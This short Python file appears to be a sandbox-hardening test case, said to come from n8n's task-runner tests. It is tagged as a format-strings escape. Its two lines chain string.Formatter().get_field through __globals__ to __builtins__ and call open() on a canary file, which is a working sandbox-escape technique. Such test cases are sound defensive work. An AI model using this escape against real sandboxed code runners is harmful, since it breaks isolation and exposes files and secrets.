# id: string-formatter-get-field-object
# family: format-strings
# kind: escape
# invariant: D, E
# origin: n8n's hardening tests for its Python task runner
# technique: get_field() answers with the object itself, which makes the class a getattr that takes a path as data
# needs: the string module
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import string

found, _ = string.Formatter().get_field("0.get_field.__func__.__globals__", [string.Formatter()], {})
print(found["__builtins__"]["open"]("canary.txt").read())
